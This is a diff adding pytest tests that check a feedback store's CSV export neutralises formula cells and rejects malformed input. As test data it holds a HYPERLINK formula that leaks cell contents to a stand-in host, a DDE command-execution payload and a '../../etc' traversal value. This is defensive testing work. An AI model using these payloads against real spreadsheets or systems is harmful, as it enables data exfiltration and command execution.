@@ -76,3 +76,52 @@ def test_cli_exports_feedback(tmp_path: Path) -> None:
     )
     assert result.returncode == 0, result.stderr
     assert "good" in out.read_text(encoding="utf-8")
+
+
+def test_export_neutralises_formula_cells(tmp_path: Path) -> None:
+    store = FeedbackStore.in_data_dir(tmp_path)
+    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
+    answer = {**ANSWER, "query": {**ANSWER["query"], "question": "@SUM(1+1)*cmd|' /C calc'!A0"}}
+    store.record(answer, -1, formula)
+    store.record(ANSWER, 1, "+1 useful")
+    text = store.export_csv()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["comment"] == "'" + formula
+    assert rows[0]["question"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[0]["rating"] == "-1"  # a number, not a formula: left as it is
+    assert rows[1]["comment"] == "'+1 useful"
+    text_cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell != "-1"]
+    assert not [cell for cell in text_cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+
+
+@pytest.mark.parametrize(
+    ("query", "comment", "message"),
+    [
+        ({"country": "FR"}, "", "unknown country 'FR'"),
+        ({"country": ["TH"]}, "", "unknown country"),
+        ({"country": "../../etc"}, "", "unknown country"),
+        ({"role": "astronaut"}, "", "unknown role"),
+        ({"question": 5}, "", "must be text"),
+        ({}, 5, "the comment must be text, not int"),
+        ({}, ["a"], "the comment must be text, not list"),
+        ({"level": 9}, "", "level 9"),
+    ],
+)
+def test_feedback_on_a_malformed_answer_is_refused(tmp_path: Path, query: dict, comment: object, message: str) -> None:
+    store = FeedbackStore.in_data_dir(tmp_path)
+    answer = {**ANSWER, "query": {**ANSWER["query"], **query}}
+    with pytest.raises(BadInputError, match=message):
+        store.record(answer, 1, comment)  # type: ignore[arg-type]
+    assert store.all() == []
+
+
+def test_comments_lose_control_characters_and_lone_surrogates(tmp_path: Path) -> None:
+    store = FeedbackStore.in_data_dir(tmp_path)
+    store.record(ANSWER, 1, "fine\x00 \ud800answer\r\nsecond line")
+    assert store.all()[0].comment == "fine answer\nsecond line"
+
+
+def test_a_data_folder_under_a_file_is_bad_input(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("not a folder")
+    with pytest.raises(BadInputError, match=r"ADVISOR_DATA_DIR=.*cannot be used as a folder"):
+        FeedbackStore.in_data_dir(tmp_path / "file" / "data")
